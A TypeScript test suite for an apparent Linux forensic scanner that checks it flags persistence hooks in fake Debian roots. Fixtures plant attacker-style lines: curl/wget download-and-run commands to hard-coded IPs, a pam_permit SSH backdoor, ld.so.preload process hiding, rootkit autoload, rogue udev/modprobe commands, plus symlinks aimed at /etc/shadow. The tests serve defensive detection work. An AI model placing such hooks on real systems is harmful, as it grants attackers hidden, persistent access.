import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, describe, it } from 'node:test';
import type { Finding } from '../src/model/finding';
import { scanFixture as scan } from './helpers/scan-fixture';
import { FakeRoot } from './helpers/fake-root';
import { BASH_COMPLETION_PROFILE_D, DEBIAN_BASH_BASHRC, DEBIAN_SKEL_BASHRC, DEVELOPER_BASHRC_TAIL } from './helpers/stock-shell';
import { DEBIAN_PAM } from './helpers/stock-pam';

// Whole offline scans of fake Debian roots: collectors and hook rules together, exact findings.

const SEC = '/usr/lib/x86_64-linux-gnu/security';
const OLD = new Date('2025-03-06T22:46:53Z');
const PLANTED = new Date('2026-11-18T03:14:15Z');
const PAM_MODULES = [
  'pam_unix.so',
  'pam_deny.so',
  'pam_permit.so',
  'pam_cap.so',
  'pam_env.so',
  'pam_nologin.so',
  'pam_motd.so',
  'pam_loginuid.so',
  'pam_selinux.so',
  'pam_rootok.so',
  'pam_faildelay.so',
  'pam_group.so',
  'pam_systemd.so',
];

const md5 = (s: string) => createHash('md5').update(s).digest('hex');
const moduleBytes = (name: string) => `\x7fELF fake module ${name}\n`;

/** A clean Debian-like root: stock shell files, PAM, udev, motd and modprobe configs, all owned by packages. */
function debianRoot(): FakeRoot {
  const r = new FakeRoot('hostsweep-hooks-').base();
  r.write(
    '/etc/passwd',
    'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ndeploy:x:1000:1000:,,,:/home/deploy:/bin/bash\n',
  );
  const owned: string[] = [];
  const put = (path: string, text: string, mode = 0o644) => {
    r.write(path, text, { mode, mtime: OLD });
    owned.push(path);
  };
  put('/etc/bash.bashrc', DEBIAN_BASH_BASHRC);
  put('/etc/profile', 'if [ -d /etc/profile.d ]; then\n  for i in /etc/profile.d/*.sh; do\n    [ -r $i ] && . $i\n  done\nfi\n');
  put('/etc/profile.d/bash_completion.sh', BASH_COMPLETION_PROFILE_D);
  put('/etc/skel/.bashrc', DEBIAN_SKEL_BASHRC);
  r.write('/root/.bashrc', DEBIAN_SKEL_BASHRC, { mtime: OLD });
  r.write('/home/deploy/.bashrc', DEBIAN_SKEL_BASHRC + DEVELOPER_BASHRC_TAIL, { mtime: OLD });
  put('/etc/ld.so.conf', 'include /etc/ld.so.conf.d/*.conf\n');
  put('/etc/ld.so.conf.d/libc.conf', '# libc default configuration\n/usr/local/lib\n');
  put('/etc/ld.so.conf.d/x86_64-linux-gnu.conf', '/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n');
  for (const [service, text] of Object.entries(DEBIAN_PAM)) put(`/etc/pam.d/${service}`, text);
  for (const m of PAM_MODULES) put(`${SEC}/${m}`, moduleBytes(m));
  r.write(
    '/var/lib/dpkg/info/libpam-modules:amd64.md5sums',
    PAM_MODULES.map((m) => `${md5(moduleBytes(m))}  ${SEC.slice(1)}/${m}\n`).join(''),
  );
  put(
    '/usr/lib/udev/rules.d/85-hwclock.rules',
    'ACTION=="add", SUBSYSTEM=="rtc", KERNEL=="rtc0", RUN+="/usr/lib/udev/hwclock-set $root/$name"\n',
  );
  put('/usr/lib/udev/hwclock-set', '#!/bin/sh\n', 0o755);
  put('/etc/update-motd.d/10-uname', '#!/bin/sh\nuname -snrvm\n', 0o755);
  put('/usr/lib/modprobe.d/systemd.conf', 'options bonding max_bonds=0\n');
  put('/usr/lib/modules-load.d/fuse.conf', 'fuse\n');
  r.write('/var/lib/dpkg/info/fixture-base.list', `${owned.join('\n')}\n`);
  return r;
}

function hookFindings(findings: Finding[]) {
  return findings
    .filter((f) => f.rule.startsWith('hooks/'))
    .map((f) => `${f.severity} ${f.rule} ${f.path}${f.user ? ` user=${f.user}` : ''}`)
    .sort();
}

const roots: FakeRoot[] = [];
after(() => {
  for (const r of roots) r.remove();
});

describe('hook persistence, offline scan of a fake Debian root', () => {
  it('a clean root produces no hook findings and no hook gaps', async () => {
    const r = debianRoot();
    roots.push(r);
    const { result } = await scan({ root: r.dir, sampleMs: 0 });
    assert.deepEqual(hookFindings(result.findings), []);
    assert.deepEqual(result.stats.ruleErrors, []);
    const hookCollectors = ['ldConfig', 'shellStartup', 'pam', 'moduleAutoload', 'udevRules', 'motdScripts'];
    assert.deepEqual(
      result.gaps.filter((g) => hookCollectors.includes(g.collector)),
      [],
    );
  });

  it('an infected root: every planted hook is found, with line evidence and file time', async () => {
    const r = debianRoot();
    roots.push(r);
    r.write('/usr/local/lib/libprocesshider.so', '\x7fELF hider\n', { mtime: PLANTED })
      .write('/etc/ld.so.preload', '/usr/local/lib/libprocesshider.so\n', { mtime: PLANTED })
      .write(
        '/etc/profile.d/sysupdate.sh',
        'export PATH\n(curl -fsSL http://185.0.0.1/ldr.sh || wget -q -O- http://185.0.0.1/ldr.sh) | sh >/dev/null 2>&1 &\n',
        { mtime: PLANTED },
      )
      .write('/home/deploy/.bash_aliases', "alias ps='ps | grep -v kworkerds'\n", { mtime: PLANTED })
      .write('/etc/pam.d/sshd', `auth sufficient pam_permit.so\n${DEBIAN_PAM.sshd}`, { mtime: PLANTED })
      .write(`${SEC}/pam_unix.so`, '\x7fELF patched pam_unix with master password\n', { mtime: PLANTED })
      .write('/etc/udev/rules.d/75-net.rules', 'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c \'/dev/shm/.x/kw &\'"\n', {
        mtime: PLANTED,
      })
      .write('/etc/update-motd.d/30-sysinfo', '#!/bin/sh\nuptime\nwget -q -O - http://198.51.100.3/i.sh | sh\n', {
        mode: 0o755,
        mtime: PLANTED,
      })
      .write('/etc/modprobe.d/nf.conf', 'install nf_nat /sbin/modprobe --ignore-install nf_nat; /var/tmp/.k/kw &\n', { mtime: PLANTED })
      .write('/usr/lib/modules-load.d/kmod-extra.conf', 'diamorphine\n', { mtime: PLANTED });
    const { result } = await scan({ root: r.dir, sampleMs: 0 });
    assert.deepEqual(result.stats.ruleErrors, []);
    assert.deepEqual(hookFindings(result.findings), [
      'critical hooks/ld-so-preload /etc/ld.so.preload',
      'critical hooks/modprobe-install-command /etc/modprobe.d/nf.conf',
      'critical hooks/module-autoload-config /usr/lib/modules-load.d/kmod-extra.conf',
      'critical hooks/motd-script /etc/update-motd.d/30-sysinfo',
      'critical hooks/pam-permit-auth /etc/pam.d/sshd',
      `critical hooks/pam-rogue-module ${SEC}/pam_unix.so`,
      'critical hooks/shell-download-exec /etc/profile.d/sysupdate.sh',
      'critical hooks/udev-run-program /etc/udev/rules.d/75-net.rules',
      'high hooks/shell-command-shadowing /home/deploy/.bash_aliases user=deploy',
    ]);
    const byRule = (id: string) => result.findings.find((f) => f.rule === id) as Finding;
    assert.equal(byRule('hooks/ld-so-preload').evidence[0], '/etc/ld.so.preload:1: /usr/local/lib/libprocesshider.so');
    assert.equal(byRule('hooks/shell-download-exec').evidence[0].split(': ')[0], '/etc/profile.d/sysupdate.sh:2');
    assert.equal(byRule('hooks/pam-permit-auth').evidence[0], '/etc/pam.d/sshd:1: auth sufficient pam_permit.so');
    assert.equal(byRule('hooks/motd-script').evidence[0], '/etc/update-motd.d/30-sysinfo:3: wget -q -O - http://198.51.100.3/i.sh | sh');
    for (const f of result.findings.filter((x) => x.rule.startsWith('hooks/')))
      assert.equal(f.time, PLANTED.toISOString(), `${f.rule} time`);
    assert.match(byRule('hooks/shell-command-shadowing').action, /sed -i "1s\/\^\/#\/" \/home\/deploy\/\.bash_aliases/);
  });

  it('hostile files: binary junk, NUL bytes, huge lines, links pointing out of the root', async () => {
    const r = debianRoot();
    roots.push(r);
    const junk = Buffer.concat([
      Buffer.from([0, 0xff, 0xfe, 0x1b, 0x5b, 0x32, 0x4a, 0xc3, 0x28]),
      Buffer.alloc(3 * 1024 * 1024, 0x41),
      Buffer.from("\nalias ls='ls | grep -v x'\0\n"),
    ]);
    r.write('/etc/profile.d/junk.sh', junk)
      .write('/etc/pam.d/common-password', Buffer.from([0x61, 0x75, 0x74, 0x68, 0x20, 0x5b, 0xff, 0x0a]))
      .write('/etc/udev/rules.d/99-long.rules', `RUN+="${'\\"'.repeat(50_000)}`)
      .symlink('/etc/ld.so.preload', '../../../../../../../../etc/shadow')
      .symlink('/etc/modprobe.d/escape.conf', '/../../../../../proc/self/environ')
      .write('/etc/passwd', `root:x:0:0:root:/root:/bin/bash\nevil:x:1001:1001::/../../../../..:/bin/bash\n`);
    const { result } = await scan({ root: r.dir, sampleMs: 0 });
    assert.deepEqual(result.stats.ruleErrors, []);
    // The 3 MiB junk file is read up to the bound; nothing outside the fake root is ever read.
    for (const f of result.findings) for (const line of f.evidence) assert.doesNotMatch(line, /root:\$|HOSTSWEEP|PATH=/);
  });
});
